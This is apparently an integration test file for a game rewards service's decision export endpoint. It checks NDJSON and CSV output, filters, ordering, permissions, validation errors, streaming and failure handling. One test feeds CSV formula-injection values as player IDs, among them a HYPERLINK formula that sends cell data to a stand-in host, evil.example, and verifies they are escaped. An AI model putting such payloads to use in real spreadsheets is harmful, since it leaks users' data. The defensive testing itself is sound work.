// Decision export (CONTRACT section 11.1, GET /api/developer/v1/decisions/export): NDJSON and CSV hold exactly what the
// decision search (GraphQL decisions) finds with the same filters, oldest first, read from the ledger page after page
// (DECISION_EXPORT_PAGE_SIZE=7 here, so that a few dozen decisions are several ledger requests); the records' errors;
// membership as for reading the game; and a ledger that fails before the first byte (503) or after it (NDJSON's error
// line, CSV's cut connection). The ledger is made to fail by holding an exclusive lock on ledger.events past the
// ledger's DATABASE_LOCK_TIMEOUT_MS.
import pg from 'pg';
import { consoleSchemaSet } from '../../../gateway/src/console/service.ts';
import { DECISION_EXPORT_COLUMNS, DECISION_EXPORT_PATH } from '../../../gateway/src/rest/decision-export.ts';
import {
  addMember,
  type Developer,
  developer,
  expectError,
  insertEvents,
  insertPlayer,
  ok,
  type World,
  world,
} from '../../support/console.ts';
import { sql } from '../../support/database.ts';
import { until } from '../../support/live.ts';
import { api, startTestSystem, type TestSystem } from '../../support/system.ts';
import { gql, requestsBetween, transportRequests } from '../graphql/helpers.ts';

const PAGE_SIZE = 7;
const EXPORT_SUBJECT = 'rewards.v1.ledger.ExportDecisions';
const DAY_MS = 86_400_000;

const SEARCH = `query Decisions(
  $gameId: UUID, $playerId: UUID, $status: EventStatus, $reason: EventReason, $eventType: String,
  $from: DateTime, $to: DateTime, $after: String
) {
  decisions(
    gameId: $gameId, playerId: $playerId, status: $status, reason: $reason, eventType: $eventType,
    from: $from, to: $to, first: 100, after: $after
  ) {
    edges {
      externalPlayerId
      node { id eventId gameId organizationId playerId eventType occurredAt status reason rewardCredits createdAt gameTime }
    }
    pageInfo { endCursor hasNextPage }
  }
}`;

let system: TestSystem;
let owner: Developer;
let viewer: Developer;
let outsider: Developer;
let w: World;
let otherGameId: string;
let quotedPlayer: string;
let plainPlayer: string;
let from: string;
let to: string;
/** A game with more decisions than the socket buffers between the gateway and the test hold. */
let largeGameId: string;
const LARGE_DECISIONS = 6000;

const QUOTED_EXTERNAL_ID = 'he said "hi", then left';

beforeAll(async () => {
  system = await startTestSystem({
    env: { DECISION_EXPORT_PAGE_SIZE: String(PAGE_SIZE), DATABASE_LOCK_TIMEOUT_MS: '300' },
  });
  owner = await developer(system);
  viewer = await developer(system);
  outsider = await developer(system);
  w = await world(system, owner.token);
  await addMember(system, owner.token, w.organizationId, viewer, 'viewer');
  const createGame = async (name: string) =>
    (
      await ok(system, owner.token, {
        type: 'createGame',
        projectId: w.projectId,
        name,
        platform: 'ios',
        maxPayoutCredits: 100,
        dailyPlayerCapCredits: 10,
      })
    ).id as string;
  otherGameId = await createGame('Other game');
  largeGameId = await createGame('Large game');
  from = new Date(Date.now() - DAY_MS).toISOString();
  quotedPlayer = await insertPlayer(system, w.gameId, { externalPlayerId: QUOTED_EXTERNAL_ID });
  plainPlayer = await insertPlayer(system, w.gameId);
  // 30 decisions of the game: 20 a microsecond apart, 10 at one instant (the id breaks the tie); others elsewhere.
  await insertEvents(system, w.gameId, quotedPlayer, 20);
  await insertEvents(system, w.gameId, plainPlayer, 10, { sameCreatedAt: true });
  await insertEvents(system, otherGameId, await insertPlayer(system, otherGameId), 5);
  await insertEvents(system, largeGameId, await insertPlayer(system, largeGameId), LARGE_DECISIONS);
  to = new Date(Date.now() + 60_000).toISOString();
});

afterAll(async () => {
  await system?.stop();
});

const exportPath = (query: Record<string, string>) => `${DECISION_EXPORT_PATH}?${new URLSearchParams(query)}`;

async function exportText(token: string, query: Record<string, string>) {
  const response = await fetch(`${system.url}${exportPath(query)}`, { headers: { Authorization: `Bearer ${token}` } });
  return { status: response.status, type: response.headers.get('content-type'), text: await response.text() };
}

/** The decision search's results for the filters, oldest first, as exported decisions (every page of the search). */
async function searched(token: string, filters: Record<string, string>): Promise<Array<Record<string, unknown>>> {
  const found: Array<Record<string, unknown>> = [];
  let after: string | undefined;
  for (;;) {
    const result = await gql(system, token, SEARCH, { ...filters, ...(after ? { after } : {}) });
    expect(result.body.errors).toBeUndefined();
    const connection = result.body.data.decisions;
    for (const edge of connection.edges) found.push({ ...edge.node, externalPlayerId: edge.externalPlayerId });
    if (!connection.pageInfo.hasNextPage) return found.reverse();
    after = connection.pageInfo.endCursor;
  }
}

const exportedDecision = consoleSchemaSet.named('ExportedDecision');

function ndjsonLines(text: string): Array<Record<string, unknown>> {
  expect(text.endsWith('\n') || text === '').toBe(true);
  return text
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => JSON.parse(line));
}

/** An RFC 4180 table (CRLF records, quoted fields with doubled quotes) as rows of fields. */
function csvRows(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let i = 0;
  while (i < text.length) {
    if (text[i] === '"') {
      const end = /^"((?:[^"]|"")*)"/.exec(text.slice(i));
      if (!end) throw new Error(`unterminated quoted field at ${i}`);
      field += end[1]!.replaceAll('""', '"');
      i += end[0].length;
    } else if (text[i] === ',') {
      row.push(field);
      field = '';
      i += 1;
    } else if (text.startsWith('\r\n', i)) {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i += 2;
    } else {
      field += text[i];
      i += 1;
    }
  }
  if (field !== '' || row.length > 0) throw new Error('the last record has no line end');
  return rows;
}

/** An exported decision as its CSV row's fields. */
const asCsvRow = (decision: Record<string, unknown>) =>
  DECISION_EXPORT_COLUMNS.map((column) => (decision[column] === null ? '' : String(decision[column])));

describe('the export holds what the decision search finds, oldest first', () => {
  test('NDJSON: every decision of the game in the window, page after page of the ledger', async () => {
    const expected = await searched(owner.token, { gameId: w.gameId, from, to });
    expect(expected).toHaveLength(30);
    const before = await transportRequests(system);
    const response = await exportText(owner.token, { gameId: w.gameId, from, to });
    const requests = requestsBetween(before, await transportRequests(system));
    expect(response.status).toBe(200);
    expect(response.type).toBe('application/x-ndjson; charset=utf-8');
    const lines = ndjsonLines(response.text);
    for (const line of lines) expect(exportedDecision(line)).toBe(true);
    expect(lines).toEqual(expected);
    expect(lines.find((line) => line.playerId === quotedPlayer)?.externalPlayerId).toBe(QUOTED_EXTERNAL_ID);
    // Oldest first by (createdAt, id): the ten decisions of one instant in id order.
    const sameInstant = lines.filter((line) => line.playerId === plainPlayer).map((line) => line.id as string);
    expect(sameInstant).toEqual([...sameInstant].sort());
    // ceil(30 / 7) pages, each one ledger request.
    expect(requests[EXPORT_SUBJECT]).toBe(Math.ceil(30 / PAGE_SIZE));
  });

  test('CSV: a header row, then the same decisions as RFC 4180 records', async () => {
    const expected = await searched(owner.token, { gameId: w.gameId, from, to });
    const response = await exportText(owner.token, { gameId: w.gameId, from, to, format: 'csv' });
    expect(response.status).toBe(200);
    expect(response.type).toBe('text/csv; charset=utf-8; header=present');
    const [header, ...rows] = csvRows(response.text);
    expect(header).toEqual([...DECISION_EXPORT_COLUMNS]);
    expect(rows).toEqual(expected.map(asCsvRow));
    expect(response.text).toContain('"he said ""hi"", then left"');
  });

  test.each<[string, () => Record<string, string>]>([
    ['a player', () => ({ playerId: quotedPlayer })],
    ['a status', () => ({ status: 'rejected' })],
    ['a reason and an event type', () => ({ reason: 'daily_player_cap', eventType: 'level.up' })],
    ['a narrower window', () => ({ from, to: new Date(Date.parse(to) - 60_000).toISOString() })],
  ])('the decision search filters: %s', async (_name, filters) => {
    const query = { gameId: w.gameId, from, to, ...filters() };
    const expected = await searched(owner.token, query);
    expect(ndjsonLines((await exportText(owner.token, query)).text)).toEqual(expected);
    const [, ...rows] = csvRows((await exportText(owner.token, { ...query, format: 'csv' })).text);
    expect(rows).toEqual(expected.map(asCsvRow));
  });

  test("CSV: text a spreadsheet would run as a formula begins with ' (OWASP); NDJSON keeps it as it is", async () => {
    const gameId = (
      await ok(system, owner.token, {
        type: 'createGame',
        projectId: w.projectId,
        name: 'Formula game',
        platform: 'web',
        maxPayoutCredits: 100,
        dailyPlayerCapCredits: 10,
      })
    ).id as string;
    const externalIds = ['=HYPERLINK("https://evil.example/?"&A1,"open")', '+1+2', '-2+3', '@SUM(A1:A9)', 'safe=1'];
    for (const externalPlayerId of externalIds) {
      await insertEvents(system, gameId, await insertPlayer(system, gameId, { externalPlayerId }), 1);
    }
    const query = { gameId, from, to: new Date(Date.now() + 60_000).toISOString() };
    const ndjson = ndjsonLines((await exportText(owner.token, query)).text);
    expect(new Set(ndjson.map((line) => line.externalPlayerId))).toEqual(new Set(externalIds));
    const response = await exportText(owner.token, { ...query, format: 'csv' });
    const [header, ...rows] = csvRows(response.text);
    const column = header!.indexOf('externalPlayerId');
    expect(new Set(rows.map((row) => row[column]))).toEqual(
      new Set([`'=HYPERLINK("https://evil.example/?"&A1,"open")`, "'+1+2", "'-2+3", "'@SUM(A1:A9)", 'safe=1']),
    );
    // No record has a field that begins like a formula.
    for (const row of rows) for (const field of row) expect(field).not.toMatch(/^[=+\-@\t\r]/);
  });

  test('an empty window: NDJSON is empty, CSV is its header row', async () => {
    const window = { gameId: w.gameId, from: '2020-01-01T00:00:00Z', to: '2020-01-31T00:00:00Z' };
    expect(await exportText(owner.token, window)).toMatchObject({ status: 200, text: '' });
    expect((await exportText(owner.token, { ...window, format: 'csv' })).text).toBe(
      `${DECISION_EXPORT_COLUMNS.join(',')}\r\n`,
    );
  });
});

describe('who may export', () => {
  test('a viewer exports what the owner does', async () => {
    const query = { gameId: w.gameId, from, to };
    expect((await exportText(viewer.token, query)).text).toBe((await exportText(owner.token, query)).text);
  });

  test('a non-member, or a game that does not exist: 404 not_found; no session: 401', async () => {
    const window = { from, to };
    expectError(
      await api(system.url, 'GET', exportPath({ gameId: w.gameId, ...window }), { token: outsider.token }),
      404,
      'not_found',
    );
    const unknown = { gameId: '00000000-0000-4000-8000-000000000000', ...window };
    expectError(await api(system.url, 'GET', exportPath(unknown), { token: owner.token }), 404, 'not_found');
    expectError(await api(system.url, 'GET', exportPath({ gameId: w.gameId, ...window })), 401, 'UNAUTHORIZED');
  });
});

describe('the records query errors: 400 INVALID_RECORD_QUERY', () => {
  const windowOf = (fromText: string, toText: string) => `from=${fromText}&to=${toText}`;
  test.each<[string, () => string]>([
    ['an unknown parameter', () => `gameId=${w.gameId}&${windowOf(from, to)}&limit=5`],
    ['a repeated parameter', () => `gameId=${w.gameId}&gameId=${w.gameId}&${windowOf(from, to)}`],
    ['a malformed game id', () => `gameId=not-a-uuid&${windowOf(from, to)}`],
    ['no game', () => windowOf(from, to)],
    ['no from', () => `gameId=${w.gameId}&to=${to}`],
    ['a malformed time', () => `gameId=${w.gameId}&${windowOf('yesterday', to)}`],
    ['to not after from', () => `gameId=${w.gameId}&${windowOf(from, from)}`],
    [
      'a window over 31 days',
      () => `gameId=${w.gameId}&${windowOf('2026-01-01T00:00:00Z', '2026-02-01T00:00:00.001Z')}`,
    ],
    ['an unknown format', () => `gameId=${w.gameId}&${windowOf(from, to)}&format=xml`],
    ['an unknown status', () => `gameId=${w.gameId}&${windowOf(from, to)}&status=maybe`],
  ])('%s', async (_name, query) => {
    const response = await api(system.url, 'GET', `${DECISION_EXPORT_PATH}?${query().replaceAll('+', '%2B')}`, {
      token: owner.token,
    });
    expectError(response, 400, 'INVALID_RECORD_QUERY');
  });

  test('a window of exactly 31 days is exported', async () => {
    const response = await exportText(owner.token, {
      gameId: w.gameId,
      from: '2026-01-01T00:00:00Z',
      to: '2026-02-01T00:00:00Z',
    });
    expect(response.status).toBe(200);
  });
});

describe('streamed, and a ledger failure', () => {
  /** Holds an exclusive lock on ledger.events (every ledger read of it waits, then fails) until released. */
  async function lockEvents(): Promise<() => Promise<void>> {
    const client = new pg.Client({ connectionString: system.databaseUrl! });
    await client.connect();
    await client.query('begin');
    await client.query('lock table ledger.events in access exclusive mode');
    return async () => {
      await client.query('rollback');
      await client.end();
    };
  }

  const largeIds = async () =>
    (
      await sql<{ id: string }>(
        system.databaseUrl!,
        'select id from ledger.events where game_id = $1 order by created_at, id',
        [largeGameId],
      )
    ).map((row) => row.id);

  test('before the first byte: 503 DEVELOPER_ACCESS_UNAVAILABLE in the envelope', async () => {
    const release = await lockEvents();
    try {
      const response = await api(system.url, 'GET', exportPath({ gameId: w.gameId, from, to }), {
        token: owner.token,
      });
      expectError(response, 503, 'DEVELOPER_ACCESS_UNAVAILABLE');
    } finally {
      await release();
    }
  });

  test('NDJSON: the first bytes arrive before the ledger was asked for every page; a later failure is its last line', async () => {
    const pages = Math.ceil(LARGE_DECISIONS / PAGE_SIZE);
    const before = await transportRequests(system);
    const response = await fetch(`${system.url}${exportPath({ gameId: largeGameId, from, to })}`, {
      headers: { Authorization: `Bearer ${owner.token}` },
    });
    expect(response.status).toBe(200);
    const reader = response.body!.getReader();
    const decoder = new TextDecoder();
    let text = '';
    const first = await reader.read();
    text += decoder.decode(first.value, { stream: true });
    // The client has read one chunk: the gateway, held back by what the client has not read, has not asked for
    // every page yet.
    const asked = requestsBetween(before, await transportRequests(system))[EXPORT_SUBJECT] ?? 0;
    expect(asked).toBeGreaterThanOrEqual(1);
    expect(asked).toBeLessThan(pages);
    const release = await lockEvents();
    try {
      for (let chunk = await reader.read(); !chunk.done; chunk = await reader.read()) {
        text += decoder.decode(chunk.value, { stream: true });
      }
    } finally {
      await release();
    }
    const lines = ndjsonLines(text);
    const last = lines.pop()!;
    expect(last).toEqual({ error: { code: 'DEVELOPER_ACCESS_UNAVAILABLE', message: expect.any(String) } });
    // What came before the error is the export's beginning, whole lines only.
    const ids = await largeIds();
    expect(lines.length).toBeGreaterThan(0);
    expect(lines.length).toBeLessThan(ids.length);
    expect(lines.map((line) => line.id)).toEqual(ids.slice(0, lines.length));
  });

  test('CSV: a failure after the first bytes cuts the connection (the body never ends)', async () => {
    const response = await fetch(`${system.url}${exportPath({ gameId: largeGameId, from, to, format: 'csv' })}`, {
      headers: { Authorization: `Bearer ${owner.token}` },
    });
    expect(response.status).toBe(200);
    const reader = response.body!.getReader();
    await reader.read();
    const release = await lockEvents();
    try {
      const drain = async () => {
        for (let chunk = await reader.read(); !chunk.done; chunk = await reader.read()) {
          // read on until the connection ends
        }
      };
      await expect(drain()).rejects.toThrow();
    } finally {
      await release();
    }
  });

  test('whole, the large export is every decision of the game in order', async () => {
    const lines = ndjsonLines((await exportText(owner.token, { gameId: largeGameId, from, to })).text);
    expect(lines.map((line) => line.id)).toEqual(await largeIds());
  });
});

describe("an export stream is one of its developer's requests in flight for as long as it runs", () => {
  const IN_FLIGHT_MAX = 3;
  let limited: TestSystem;
  beforeAll(async () => {
    limited = await startTestSystem({
      env: { DECISION_EXPORT_PAGE_SIZE: String(PAGE_SIZE), DEVELOPER_IN_FLIGHT_MAX: String(IN_FLIGHT_MAX) },
    });
  });
  afterAll(async () => {
    await limited?.stop();
  });

  test('streams held open fill DEVELOPER_IN_FLIGHT_MAX; each gives its slot back when it ends', async () => {
    const dev = await developer(limited);
    const other = await developer(limited);
    const game = await world(limited, dev.token);
    await insertEvents(limited, game.gameId, await insertPlayer(limited, game.gameId), LARGE_DECISIONS);
    const query = { gameId: game.gameId, from, to: new Date(Date.now() + 60_000).toISOString() };
    const access = (token: string) => api(limited.url, 'GET', '/api/developer/v1/access', { token });
    // Streams that the client reads one chunk of, then leaves pending (more than the socket buffers hold).
    const streams = await Promise.all(
      Array.from({ length: IN_FLIGHT_MAX }, async () => {
        const controller = new AbortController();
        const response = await fetch(`${limited.url}${exportPath(query)}`, {
          headers: { Authorization: `Bearer ${dev.token}` },
          signal: controller.signal,
        });
        expect(response.status).toBe(200);
        const reader = response.body!.getReader();
        expect((await reader.read()).done).toBe(false);
        return { controller, reader };
      }),
    );
    try {
      const refused = await access(dev.token);
      expectError(refused, 429, 'TOO_MANY_REQUESTS');
      expect(refused.body.error.message).toMatch(/in flight/);
      // Another export of the same developer likewise; another developer is served.
      expectError(await api(limited.url, 'GET', exportPath(query), { token: dev.token }), 429, 'TOO_MANY_REQUESTS');
      expect((await access(other.token)).status).toBe(200);
    } finally {
      for (const { controller } of streams) controller.abort();
    }
    // The client left: the slots come back.
    await until(async () => (await access(dev.token)).status === 200, 'the slots to be given back', 10_000);
    // An export read to its end gives its slot back too.
    for (let i = 0; i < IN_FLIGHT_MAX; i++) {
      const whole = await exportFrom(limited, dev.token, query);
      expect(whole.status).toBe(200);
      expect(ndjsonLines(whole.text)).toHaveLength(LARGE_DECISIONS);
    }
    expect((await access(dev.token)).status).toBe(200);
  }, 120_000);
});

async function exportFrom(on: TestSystem, token: string, query: Record<string, string>) {
  const response = await fetch(`${on.url}${exportPath(query)}`, { headers: { Authorization: `Bearer ${token}` } });
  return { status: response.status, text: await response.text() };
}
